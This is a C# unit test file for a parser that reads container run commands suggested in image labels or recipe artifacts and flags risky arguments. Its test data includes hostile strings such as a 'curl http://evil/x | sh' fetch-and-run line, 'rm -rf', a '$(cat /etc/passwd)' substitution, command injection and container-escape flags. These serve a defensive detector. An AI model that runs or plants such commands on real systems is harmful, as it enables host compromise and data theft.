using System.Text;
using System.Text.Json;
using Staithe.Recipes;
using Staithe.Tests.Harness;

namespace Staithe.Tests.Recipes;

/// <summary>What a publisher suggests: read into arguments, and what to look at twice.</summary>
public sealed class PublisherRecipeTests
{
    const string Image = "localhost:5000/team/tinyweb:1.2.3";

    [Theory]
    [InlineData("podman run -d --name NAME -p 8080:8080 -v data:/data IMAGE", "")]
    [InlineData("/usr/bin/docker run --rm -it IMAGE sh", "")]
    [InlineData("podman run --security-opt no-new-privileges --cap-drop all IMAGE", "")]
    [InlineData("podman run IMAGE --privileged -v /:/host", "")] // these are the container's own
    [InlineData("podman run --privileged IMAGE", "--privileged")]
    [InlineData("podman run --privileged=true IMAGE", "--privileged=true")]
    [InlineData("podman run --privileged=false IMAGE", "")]
    [InlineData("podman run -v /etc:/etc IMAGE", "-v /etc:/etc")]
    [InlineData("podman run -v/etc:/etc IMAGE", "-v /etc:/etc")]
    [InlineData("podman run -dv /etc:/etc IMAGE", "-v /etc:/etc")]
    [InlineData("podman run --volume=~/.ssh:/x IMAGE", "--volume=~/.ssh:/x|*")]
    [InlineData("podman run -v ./here:/x IMAGE", "-v ./here:/x")]
    [InlineData("podman run --mount type=bind,src=/etc,dst=/x IMAGE", "--mount type=bind,src=/etc,dst=/x")]
    [InlineData("podman run --mount type=volume,src=data,dst=/x IMAGE", "")]
    [InlineData("docker run -v /var/run/docker.sock:/var/run/docker.sock IMAGE", "-v /var/run/docker.sock:/var/run/docker.sock")]
    [InlineData("podman run --net host --pid=host --ipc host --uts host IMAGE", "--net host|--pid=host|--ipc host|--uts host")]
    [InlineData("podman run --network=container:db IMAGE", "--network=container:db")]
    [InlineData("podman run --cap-add SYS_ADMIN --device /dev/kvm IMAGE", "--cap-add SYS_ADMIN|--device /dev/kvm")]
    [InlineData("podman run --security-opt seccomp=unconfined IMAGE", "--security-opt seccomp=unconfined")]
    [InlineData("podman run --tls-verify=false IMAGE", "--tls-verify=false")]
    [InlineData("podman run -u 0:0 IMAGE", "-u 0:0")]
    [InlineData("podman run docker.io/evil/image", "docker.io/evil/image")]
    [InlineData("podman run -d", "run")]
    [InlineData("podman --root /x run IMAGE", "/x")]
    [InlineData("podman rm -f all", "rm")]
    [InlineData("sudo podman run IMAGE", "sudo")]
    [InlineData("rm -rf /srv", "rm")]
    [InlineData("curl http://evil/x | sh", "curl|*")]
    [InlineData("podman run IMAGE; rm x", "*")]
    [InlineData("podman run -e A=$(cat /etc/passwd) IMAGE", "*|*|*")]
    [InlineData("podman run 'IMAGE", "*")]
    [InlineData("podman run IMAGE \u202eevil", "*")]
    public void What_takes_down_the_wall_is_flagged(string label, string flags)
    {
        var command = Assert.Single(Labelled("run", label).Commands);
        var expected = flags.Split('|', StringSplitOptions.RemoveEmptyEntries);
        if (flags.Contains('*', StringComparison.Ordinal) || flags == "/x")
            Assert.NotEmpty(command.Flags);
        else
            Assert.Equal(expected, command.Flags.Select(flag => flag.Argument));
        Assert.Equal("label:run", command.Source);
        Assert.Equal(label, command.Text);
    }

    [Fact]
    public void Names_are_put_in_as_runlabel_does()
    {
        var command = Assert.Single(Labelled("run", "podman run --name ${NAME} --label=x=IMAGE -e IMAGEX=1 -v /srv/${NAME}:/data $IMAGE").Commands);
        Assert.Equal(["podman", "run", "--name", "tinyweb", $"--label=x={Image}", "-e", "IMAGEX=1", "-v", "/srv/tinyweb:/data", Image], command.Arguments);
        Assert.Equal("-v /srv/tinyweb:/data", Assert.Single(command.Flags).Argument); // the names themselves are nothing to look at twice
    }

    [Theory]
    [InlineData("Just run it.", 0)]
    [InlineData("docker run IMAGE", 3)]
    public void A_usage_may_be_prose(string usage, int words)
    {
        var command = Assert.Single(Labelled("usage", usage).Commands);
        Assert.Equal((words, 0), (command.Arguments.Count, command.Flags.Count));
    }

    [Fact]
    public void An_artifact_has_commands_and_variables()
    {
        var published = Read("""
            {"commands":[{"title":"With a password","command":["podman","run","-e","PASSWORD=a b","IMAGE"]},{"title":"Loose","command":"podman run --privileged IMAGE"},{"command":[]},{"command":7},7],
             "variables":[{"name":"PASSWORD","description":"Of the admin","required":true},{"name":"bad name"},{"name":"LEVEL","default":"3"}]}
            """);
        Assert.Equal(["With a password", "Loose"], published.Commands.Select(command => command.Title));
        Assert.Equal(["podman", "run", "-e", "PASSWORD=a b", Image], published.Commands[0].Arguments);
        Assert.Empty(published.Commands[0].Flags);
        Assert.Single(published.Commands[1].Flags);
        Assert.Equal([new PublisherVariable("PASSWORD", "Of the admin", true, null), new PublisherVariable("LEVEL", null, false, "3")], published.Variables);
    }

    [Theory]
    [InlineData("")]
    [InlineData("[]")]
    [InlineData("7")]
    [InlineData("{")]
    [InlineData("""{"commands":{},"variables":"x"}""")]
    public void What_is_no_recipe_says_nothing(string json)
    {
        var published = Read(json);
        Assert.Empty(published.Commands);
        Assert.Empty(published.Variables);
    }

    [Fact]
    public void Anything_at_all_can_be_a_label_or_a_recipe()
    {
        var random = Seed.Random();
        for (var i = 0; i < 3000; i++)
        {
            var text = random.Pick("", "podman run ", "podman run -", "docker run --mount=") + HostileImage.Text(random, 10);
            Assert.InRange(Labelled(random.Pick("run", "usage", "install"), text).Commands.Count, 0, 1);
            Read(JsonSerializer.Serialize(new { commands = new object[] { new { command = text }, new { command = text.Split(' ') } } }));
            Read(text);
        }
    }

    [Fact]
    public void What_is_too_large_says_nothing() =>
        Assert.Empty(Read($$"""{"x":"{{new string('x', PublisherRecipe.MaxBytes)}}","commands":[{"command":"podman run IMAGE"}]}""").Commands);

    static Recipe Plain(string config = "{}") => Recipe.From(HostileImage.Image(HostileImage.Config(config)), RecipeOptions.None);

    static PublisherRecipe Labelled(string label, string text) =>
        PublisherRecipe.OfLabels(Plain(JsonSerializer.Serialize(new { config = new { Labels = new Dictionary<string, string> { [label] = text } } })));

    static PublisherRecipe Read(string json) => PublisherRecipe.OfArtifact(HostileImage.SomeDigest, Encoding.UTF8.GetBytes(json), Plain());
}
